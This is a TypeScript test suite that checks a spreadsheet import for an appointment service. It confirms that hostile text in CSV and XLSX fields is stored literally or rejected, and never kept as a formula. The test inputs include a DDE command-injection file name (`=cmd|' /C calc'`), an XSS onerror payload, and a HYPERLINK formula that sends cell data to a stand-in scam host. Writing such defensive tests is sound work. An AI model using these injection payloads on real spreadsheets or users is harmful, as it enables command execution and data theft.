/**
 * Every hostile text in every free-text field of the platform's report, and invalid or
 * borderline DNI, email and phone, imported through the real bundle from a CSV (minimal quoting;
 * every field quoted, ';' and CRLF) and from an XLSX. Each row is stored as the literal text
 * (tidied only as documented) or rejected with a Spanish reason and kept in 'Revisión' (a name
 * outside the one rule for names, a document type the service does not attend).
 */
import { walkInId } from '../../../src/domain/ids';
import { limaDate } from '../../../src/domain/lima-time';
import { checkPersonName, documentTypeOf } from '../../../src/domain/validation';
import { createAttentionWorld, makeReportRows, type ReportRow } from '../../support/attention-world';
import { accountFor, brokenExecutions, formulaCells, imported, overlongCells, tried, type Imported, type RowOutcome } from '../checks';
import { csvText, cut, DNI_CASES, EMAIL_CASES, encode, HOSTILE_TEXTS, PHONE_CASES, reportLines, reportXlsx, type HostileText } from '../corpus';

const TOMORROW = '2026-11-28';

/** The report's text fields a hostile value is put in, and what the row must become. */
type Field = 'names' | 'lastNames' | 'service' | 'consultant' | 'phone' | 'documentType' | 'code';
const TEXT_FIELDS: Field[] = ['names', 'lastNames', 'service', 'consultant', 'phone', 'documentType', 'code'];

/** The spreadsheet's signing secret, read once the import ran (it signs IDs of rows without a code). */
let signingSecretNow: () => string = () => {
  throw new Error('no import yet');
};

/** 'P-20261128-0840-…': the ID of an appointment the report gives no code for (signed, no DNI in it). */
function derivedId(r: ReportRow): string {
  const [dd, mm, yyyy] = r.date.split('/').map(Number);
  const [hh, mi] = r.time.split(':').map(Number);
  return walkInId(signingSecretNow(), r.dni, limaDate(yyyy, mm, dd, hh, mi));
}

/** What the one rule for names (validation.ts) makes of a name: stored as tidied, or the row's reason. */
function nameOutcome(text: string, stored: (cells: Record<string, string>) => (line: number) => RowOutcome): (line: number) => RowOutcome {
  const n = checkPersonName(text);
  if (n.ok) return stored({ 'Nombres y apellidos': n.name });
  const reason = n.problem === 'missing' ? /falta el nombre/ : n.problem === 'tooLong' ? /el nombre es demasiado largo/ : /el nombre «[^]*» no es válido \(debe empezar con una letra/;
  return (line) => ({ line, rejected: reason });
}

interface Case {
  row: ReportRow;
  outcome: (line: number) => RowOutcome;
}

function textCase(base: ReportRow, field: Field, t: HostileText, codesSeen: Map<string, number>): Case {
  const row = { ...base };
  const id = (r: ReportRow) => r.code;
  const stored = (cells: Record<string, string>) => (line: number): RowOutcome => ({ line, id: id(row), cells });
  switch (field) {
    case 'names':
      row.names = t.value;
      row.lastNames = '';
      return { row, outcome: nameOutcome(t.value, stored) };
    case 'lastNames':
      row.names = 'Rosa';
      row.lastNames = t.value;
      return { row, outcome: nameOutcome(`Rosa ${t.value}`, stored) };
    case 'service':
      row.service = t.value;
      return { row, outcome: stored({ Servicio: cut(t.tidy, 200) }) };
    case 'consultant':
      row.consultant = t.value;
      return { row, outcome: stored({ Consultor: cut(t.tidy, 200) }) };
    case 'phone': {
      row.phone = t.value;
      // '+51 987 654 321' is a Peruvian mobile: stored in the canonical form, not as typed.
      const want = t.tidy === '+51 987 654 321' ? '+51 987654321' : cut(t.tidy, 60);
      return { row, outcome: stored({ Celular: want }) };
    }
    case 'documentType':
      row.documentType = t.value;
      // Only the documents the service attends (validation.ts); any other type goes to review.
      const type = documentTypeOf(t.value);
      return {
        row,
        outcome: type ? stored({ 'Tipo doc.': type, DNI: row.dni }) : (line) => ({ line, rejected: /el tipo de documento «[^]*» no es uno de los que atiende el servicio/ }),
      };
    case 'code': {
      row.code = t.value;
      // Platform codes are compared without spaces and case (documented in report.ts).
      const code = cut(t.tidy, 60).replace(/\s+/g, '').toUpperCase();
      if (code === '') return { row, outcome: (line) => ({ line, id: derivedId(row), cells: { 'Código plataforma': '' } }) };
      return {
        row,
        outcome: (line) => {
          const first = codesSeen.get(code);
          if (first !== undefined && first !== line) return { line, rejected: new RegExp(`está repetida \\(ya figura en la fila ${first}\\)`) };
          codesSeen.set(code, line);
          return { line, id: code, cells: { 'ID de cita': code, 'Código plataforma': code } };
        },
      };
    }
  }
}

/** All cases of the suite, on distinct rows of tomorrow's report (codes 'H001'…). */
function buildCases(texts: readonly HostileText[]): Case[] {
  const n = texts.length * TEXT_FIELDS.length + EMAIL_CASES.length + DNI_CASES.length + PHONE_CASES.length + 2;
  const base = makeReportRows(TOMORROW, n, { codePrefix: 'H' });
  const codesSeen = new Map<string, number>();
  const cases: Case[] = [];
  let i = 0;
  for (const field of TEXT_FIELDS) for (const t of texts) cases.push(textCase(base[i++], field, t, codesSeen));
  for (const e of EMAIL_CASES) {
    const row = { ...base[i++], email: e.value };
    cases.push({
      row,
      outcome: (line) => ('stored' in e.outcome ? { line, id: row.code, cells: { Correo: e.outcome.stored } } : { line, rejected: e.outcome.rejected }),
    });
  }
  for (const d of DNI_CASES) {
    const row = { ...base[i++], dni: d.value };
    cases.push({ row, outcome: (line) => ('stored' in d.outcome ? { line, id: row.code, cells: { DNI: d.outcome.stored } } : { line, rejected: d.outcome.rejected }) });
  }
  for (const p of PHONE_CASES) {
    const row = { ...base[i++], phone: p.value };
    cases.push({ row, outcome: (line) => ({ line, id: row.code, cells: { Celular: p.stored } }) });
  }
  // The same appointment twice in the file: the second is rejected as a repetition of the first.
  const dup = base[i++];
  cases.push({ row: dup, outcome: (line) => ({ line, id: dup.code, cells: { DNI: dup.dni } }) });
  cases.push({ row: { ...dup }, outcome: (line) => ({ line, rejected: new RegExp(`la cita «${dup.code}» está repetida \\(ya figura en la fila ${line - 1}\\)`) }) });
  return cases;
}

/** Outcomes by line: the header is line 1, the first appointment line 2. */
function outcomes(cases: readonly Case[]): RowOutcome[] {
  return cases.map((c, k) => c.outcome(k + 2));
}

function expectClean(w: ReturnType<typeof createAttentionWorld>, r: Imported, cases: readonly Case[]): void {
  expect(brokenExecutions(w.ws)).toEqual([]);
  expect(r.execution.status).toBe('completed');
  expect(r.ok).toBe(true);
  signingSecretNow = () => w.ws.project(w.atenciones).documentProperties['SOE_SIGNING_SECRET'];
  const expected = outcomes(cases);
  expect(accountFor(w.ws, w.atenciones, r, expected)).toEqual([]);
  // Nothing else was created, nothing rejected beyond what was expected.
  const stored = expected.filter((e) => 'id' in e).length;
  expect(r.counts.inserted).toBe(stored);
  expect(r.counts.rejected).toBe(expected.length - stored);
  expect(formulaCells(w.ws, w.atenciones)).toEqual([]);
  expect(overlongCells(w.ws, w.atenciones)).toEqual([]);
}

export function importTextSuite(): void {
  describe('hostile text in every field of the report', () => {
    // NUL cannot travel in a CSV (the file is refused as binary, see the files suite); XLSX writes it as _x0000_.
    const csvTexts = HOSTILE_TEXTS.filter((t) => !t.value.includes('\u0000'));

    test('CSV, UTF-8, minimal quoting: each value stored as its literal text or rejected with its reason, none a formula', () => {
      const w = createAttentionWorld();
      const cases = buildCases(csvTexts);
      const r = imported(w.ws, w.atenciones, 'reporte-citas-2026-11-28.csv', encode(csvText(reportLines(cases.map((c) => c.row))), 'utf-8'));
      tried('importación de texto (CSV)', cases.length);
      expectClean(w, r, cases);
      // A landline, a short or a foreign number is kept as typed, and the panel says so.
      for (const p of PHONE_CASES.filter((x) => x.warned)) {
        expect(r.warnings).toEqual(expect.arrayContaining([expect.stringMatching(new RegExp(`el teléfono «${p.stored.replace(/[()+]/g, '\\$&')}» no es un celular peruano`))]));
      }
    });

    test('CSV with every field quoted, «;», CRLF and a hostile file name: the same outcome', () => {
      const w = createAttentionWorld();
      const cases = buildCases(csvTexts);
      const fileName = `=cmd|' /C calc'!A0 <img src=x onerror=alert(1)>.csv`;
      const text = csvText(reportLines(cases.map((c) => c.row)), { delimiter: ';', quoteAll: true, eol: '\r\n' });
      // OWASP's quoted forms are really in the file: "=1+2" and "=HYPERLINK(""http://…"
      expect(text).toContain('"=1+2"');
      expect(text).toContain('"=HYPERLINK(""http://estafa.example/?d=""&A1,""Premio"")"');
      const r = imported(w.ws, w.atenciones, fileName, encode(text, 'utf-8-bom'));
      tried('importación de texto (CSV entrecomillado)', cases.length);
      expect(r.fileName).toBe(fileName);
      expectClean(w, r, cases);
      const audit = w.ws.readTab(w.atenciones, 'Registro de auditoría').filter((a) => a['Acción'] === 'Importación de citas');
      expect(audit.map((a) => a['Para'])).toEqual([fileName]);
    });

    test('XLSX with text cells, NUL and control characters included: the same outcome', () => {
      const w = createAttentionWorld();
      const cases = buildCases(HOSTILE_TEXTS);
      const r = imported(w.ws, w.atenciones, 'reporte-citas-2026-11-28.xlsx', reportXlsx(cases.map((c) => c.row)));
      tried('importación de texto (XLSX)', cases.length);
      expect(r.format).toBe('xlsx');
      expectClean(w, r, cases);
    });

    test('XLSX cells that are formulas, inline strings or errors: the value is imported, never the formula', () => {
      const w = createAttentionWorld();
      const rows = makeReportRows(TOMORROW, 3, { codePrefix: 'F' });
      const bytes = reportXlsx(rows, (i, f, v) => {
        if (f === 'names' && i === 0) return { formula: 'HYPERLINK("http://estafa.example","Rosa")', result: 'Rosa' };
        // A formula as a name breaks the one rule for names (it would go to review): it goes in the service.
        if (f === 'service' && i === 1) return { inline: '=1+2' };
        if (f === 'service' && i === 2) return { error: '#N/A' };
        return { text: v };
      });
      const r = imported(w.ws, w.atenciones, 'formulas.xlsx', bytes);
      tried('importación de texto (XLSX fórmulas)', 3);
      expect(brokenExecutions(w.ws)).toEqual([]);
      expect(r.counts.inserted).toBe(3);
      const got = w.ws.readTab(w.atenciones, 'Citas').filter((x) => x['ID de cita'] !== '');
      expect(got.map((x) => [x['ID de cita'], x['Nombres y apellidos'], x['Servicio']])).toEqual([
        ['F001', `Rosa ${rows[0].lastNames}`, rows[0].service],
        ['F002', `${rows[1].names} ${rows[1].lastNames}`, '=1+2'],
        ['F003', `${rows[2].names} ${rows[2].lastNames}`, '#N/A'],
      ]);
      expect(formulaCells(w.ws, w.atenciones)).toEqual([]);
    });
  });
}
